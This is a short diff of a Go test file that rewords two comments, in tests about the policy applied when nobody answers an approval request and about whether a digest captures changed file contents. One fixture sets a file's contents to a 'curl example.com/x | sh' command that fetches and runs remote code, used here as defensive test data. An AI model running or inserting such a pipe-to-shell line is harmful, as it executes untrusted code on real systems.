@@ -11,7 +11,7 @@ import (
 	"github.com/holdfast/holdfast/schema/store/storetest"
 )
 
-// What follows when nobody answers is the step's own, else the session's, else suspend.
+// When nobody answers, the step's own policy applies, else the session's, else suspend.
 func TestSubject_SaysWhatFollowsWhenNobodyAnswers(t *testing.T) {
 	t.Parallel()
 	s := storetest.New(t)
@@ -95,7 +95,7 @@ func TestSubject_IsAllThatTheDigestBindsAndWhatItWasBefore(t *testing.T) {
 		t.Fatalf("%+v", step)
 	}
 
-	// A file is changed: the command that is asked about is as it was, what it does is not.
+	// A file is changed: the command in question stays the same, but what it does changes.
 	second.Files["it"] = "curl example.com/x | sh"
 	if _, err := s.Revise(ctx, b.revise("make", `{"files": {"it": "curl example.com/x | sh"}}`)); err != nil {
 		t.Fatal(err)
